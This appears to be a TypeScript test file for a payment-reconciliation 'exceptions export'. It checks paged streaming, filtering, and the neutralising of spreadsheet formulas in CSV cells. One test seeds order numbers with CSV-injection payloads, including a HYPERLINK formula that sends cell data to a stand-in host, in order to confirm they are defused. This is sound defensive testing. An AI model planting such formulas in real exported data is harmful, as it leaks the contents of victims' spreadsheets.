/**
 * `recon exceptions` streams from a cursor a page at a time: any page size gives the same bytes,
 * and the filters (kind, status, merchant, amount at stake) select exactly what they say, on both
 * stores.
 */
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSmallCsv } from '../../src/core/small-csv.js';
import { exportExceptions, neutralizeFormula, queryExceptions } from '../../src/reports/exceptions-export.js';
import type { Pool } from '../../src/run/pool.js';
import type { Store } from '../../src/store/store.js';
import { generateChain, runDate } from '../helpers/chain.js';
import { testPool } from '../helpers/pool.js';
import { qrCredit, qrSale, Scenario } from '../helpers/scenario.js';
import { storeCases } from '../helpers/stores.js';

let pool: Pool;
beforeAll(() => {
  pool = testPool();
});

async function exported(
  store: Store,
  f: Parameters<typeof exportExceptions>[1],
  fmt: 'csv' | 'json',
  pageRows?: number,
): Promise<string> {
  const parts: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _enc, done) {
      parts.push(chunk);
      done();
    },
  });
  await exportExceptions(store, f, fmt, out, pageRows);
  return Buffer.concat(parts).toString('utf8');
}

for (const sc of storeCases()) {
  describe(`exceptions export on ${sc.name}`, () => {
    afterAll(() => sc.dispose());

    it('streams the same rows whatever the page size, and filters by kind, status, merchant and amount', async () => {
      const { dir } = generateChain('2026-11-16', 3, 4000, 51);
      const store = await sc.open();
      try {
        for (const d of ['2026-11-16', '2026-11-17', '2026-11-18']) await runDate(store, dir, d, pool);
        const date = '2026-11-17';
        const all = await queryExceptions(store, { date });
        expect(all.length).toBeGreaterThan(10);
        const csv = await exported(store, { date }, 'csv');
        expect(csv.trimEnd().split('\n')).toHaveLength(all.length + 1);
        for (const size of [1, 7, all.length, all.length + 1])
          expect(await exported(store, { date }, 'csv', size)).toBe(csv);
        const json = (await exported(store, { date }, 'json', 3))
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l) as Record<string, unknown>);
        expect(json.map((o) => [o.kind, o.stan, o.journal_source])).toEqual(
          all.map((r) => [r.kind, r.stan || null, r.journal_source || null]),
        );

        const kinds = [...new Set(all.map((r) => r.kind))].slice(0, 2);
        const merchant = all[Math.floor(all.length / 2)]!.merchant_id;
        const stake = await store.query<{ kind: string; stan: string | null; amount_at_stake: string }>(
          `select kind, stan, amount_at_stake::text from recon.exception where raised_on = $1::date`,
          [date],
        );
        const amounts = stake.map((r) => Number(r.amount_at_stake)).sort((a, b) => a - b);
        const min = amounts[Math.floor(amounts.length / 2)]!;
        const cases: [Parameters<typeof exportExceptions>[1], (r: (typeof all)[number]) => boolean][] = [
          [{ date, kinds }, (r) => kinds.includes(r.kind)],
          [{ date, status: 'resolved' }, (r) => r.status === 'resolved'],
          [{ date, status: 'open' }, (r) => r.status === 'open'],
          [{ date, merchants: [merchant] }, (r) => r.merchant_id === merchant],
        ];
        for (const [f, keep] of cases) {
          const rows = await queryExceptions(store, f);
          expect(rows, JSON.stringify(f)).toEqual(all.filter(keep));
          expect((await exported(store, f, 'csv', 5)).trimEnd().split('\n').length - 1).toBe(rows.length);
        }
        expect(all.some((r) => r.status === 'resolved')).toBe(true);
        const big = await queryExceptions(store, { date, minAmount: min });
        expect(big.length).toBe(amounts.filter((a) => a >= min).length);
        expect(big.length).toBeLessThan(all.length);
        await expect(queryExceptions(store, { date, merchants: ['12x'] })).rejects.toThrow(
          /--merchant 12x is not a merchant id/,
        );
        await expect(queryExceptions(store, { date, minAmount: -1 })).rejects.toThrow(/--min-amount must be/);
      } finally {
        await store.close();
      }
    });

    it('neutralises spreadsheet formulas in text cells of the CSV (OWASP), and keeps JSON values as they are', async () => {
      const store = await sc.open();
      try {
        // Order numbers as a terminal or an acquirer might send them: each starts a formula.
        const orders = ['=HYPERLINK("http://x.example/?"&A1;"pay")', '+1+1', '-2+3', '@SUM(A1:A2)'];
        const s = new Scenario(pool, {}, store);
        s.journal(
          '2026-11-16',
          ...orders
            .slice(0, 3)
            .map((o, i) => qrSale({ stan: `00000${i}`, txn_time: '2026-11-16T10:00:00+08:00', order_no: o })),
        );
        s.clearing(
          '2026-11-16',
          ...orders.slice(3).map((o, i) =>
            qrCredit({
              stan: `00010${i}`,
              txn_time: '2026-11-16T11:00:00+08:00',
              settle_date: '2026-11-17',
              order_no: o,
            }),
          ),
        );
        await s.run('2026-11-16', '2026-11-17', '2026-11-18');
        const csv = (await exported(store, { date: '2026-11-18' }, 'csv')).trimEnd().split('\n');
        const rows = parseSmallCsv(csv.join('\n')).map((r) => r.fields);
        const at = rows[0]!.indexOf('order_no');
        expect(
          rows
            .slice(1)
            .map((r) => r[at])
            .sort(),
        ).toEqual(orders.map((o) => `'${o}`).sort());
        // Tabs and carriage returns (which the scan rejects in an order number) are covered too.
        expect(['\tx', '\rx', 'x=1', ''].map(neutralizeFormula)).toEqual(["'\tx", "'\rx", 'x=1', '']);
        // Numbers stay numbers; JSON keeps the values.
        expect(rows.slice(1).every((r) => /^\d+$/.test(r[rows[0]!.indexOf('journal_amount_minor')]! || '0'))).toBe(
          true,
        );
        const json = (await exported(store, { date: '2026-11-18' }, 'json'))
          .trimEnd()
          .split('\n')
          .map((l) => (JSON.parse(l) as { order_no: string }).order_no);
        expect(json.sort()).toEqual([...orders].sort());
      } finally {
        await store.close();
      }
    });
  });
}
